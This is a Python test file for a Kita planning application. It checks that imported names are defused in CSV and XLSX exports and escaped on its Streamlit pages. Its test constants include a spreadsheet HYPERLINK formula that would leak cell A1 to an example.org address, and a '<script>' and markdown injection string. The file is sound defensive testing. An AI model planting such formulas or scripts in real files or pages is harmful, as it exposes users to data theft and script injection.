"""Hardening: text from imports and users is never run, neither in a spreadsheet nor on a page.

Formula injection: a Kita or area name like ``=HYPERLINK(…)`` must reach CSV and XLSX exports as
text. Markdown/HTML injection: names shown on pages are escaped, so ``[Link](…)`` or ``<script>``
is printed literally.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook
from sqlalchemy import update
from streamlit.testing.v1 import AppTest

from planning.cli import main
from planning.db import session_scope
from planning.exports import csv_bytes, defuse_cell, workbook_bytes
from planning.models import Area, AreaLayout
from tests.conftest import APPTEST_TIMEOUT_S

APP = str(Path(__file__).resolve().parents[2] / "app.py")
FORMULA = '=HYPERLINK("http://example.org/?x="&A1;"Klick")'
PAYLOAD = "**Fett** [Link](http://example.org) <script>alert(1)</script> ![](http://example.org/b.png)"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+49 461 85-0", "'+49 461 85-0"),  # a phone number is not a number: could be a formula
        ("-A1", "'-A1"),
        ("@SUMME(A1:A9)", "'@SUMME(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("-3,5", "-3,5"),  # plain numbers stay numbers
        ("+12", "+12"),
        ("1.234,5", "1.234,5"),
        ("Kita =Sonnenschein", "Kita =Sonnenschein"),  # only the first character counts
        ("", ""),
        (None, None),
        (7, 7),
    ],
)
def test_defuse_cell(value, expected):
    assert defuse_cell(value) == expected


def _rows(data: bytes, sep: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=sep))


def test_csv_cells_never_start_a_formula_but_numbers_stay():
    frame = pd.DataFrame(
        {"name": [FORMULA, "Kita Nord", None], "value": [-3.5, 2.0, None], "note": ["-", "+x", "ok"]}
    )
    rows = _rows(csv_bytes(frame, sep=";", bom=True), ";")
    assert rows[0] == ["name", "value", "note"]
    assert rows[1] == ["'" + FORMULA, "-3.5", "-"]  # a lone dash ("no data") is no formula either
    assert rows[2] == ["Kita Nord", "2.0", "'+x"]
    assert rows[3] == ["", "", "ok"]


def test_xlsx_keeps_formula_like_text_as_text():
    frame = pd.DataFrame({"Beschluss": [FORMULA, "+1 Gruppe", "normal"], "Zahl": [1, -2, 3]})
    book = load_workbook(io.BytesIO(workbook_bytes({"Beschlüsse": frame})))
    cells = [c for row in book["Beschlüsse"].iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "Formel in der Excel-Datei"
    sheet = book["Beschlüsse"]
    assert sheet["A2"].value == FORMULA and sheet["A2"].data_type == "s"  # unchanged text, no apostrophe
    assert sheet["B3"].value == -2 and sheet["B3"].data_type == "n"


def _rename(engine, name: str) -> None:
    with session_scope(engine) as s:
        s.execute(update(Area).where(Area.gebiet_id == "0101").values(name=name))
        s.execute(update(AreaLayout).values(municipality=name))


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_export_table_of_an_area_named_like_a_formula(tiny_engine, tmp_path, suffix):
    _rename(tiny_engine, FORMULA)
    out = tmp_path / f"tabelle{suffix}"
    assert (
        main(
            ["--db", str(tiny_engine.url), "export-table", "kinderarmut", "--year", "2025", "--out", str(out)]
        )
        == 0
    )
    if suffix == ".csv":
        names = [r[1] for r in _rows(out.read_bytes())[1:]]
        assert "'" + FORMULA in names
        assert not any(n.startswith(("=", "+", "-", "@")) for n in names)
    else:
        book = load_workbook(out)
        assert all(c.data_type != "f" for ws in book.worksheets for row in ws.iter_rows() for c in row)
        assert FORMULA in [c.value for c in book["Tabelle"]["B"]]


def test_pages_print_names_literally(tiny_engine, monkeypatch):
    """An imported municipality and area name full of markdown and HTML is escaped on the page."""
    _rename(tiny_engine, PAYLOAD)
    monkeypatch.setenv("PLANUNGSATLAS_DB_URL", str(tiny_engine.url))
    at = AppTest.from_file(APP, default_timeout=APPTEST_TIMEOUT_S)
    at.query_params["gebiet"] = "0101"
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    texts = [m.value for m in at.markdown] + [c.value for c in at.caption]
    shown = [t for t in texts if "Fett" in t]
    assert shown, "Name der Kommune nicht gefunden"
    for text in shown:
        for raw in ("**Fett**", "[Link](", "<script>", "![]("):
            assert raw not in text, f"ungeschützt: {text!r}"
        assert text.replace("\\", "").count(PAYLOAD) >= 1  # shown literally, character for character
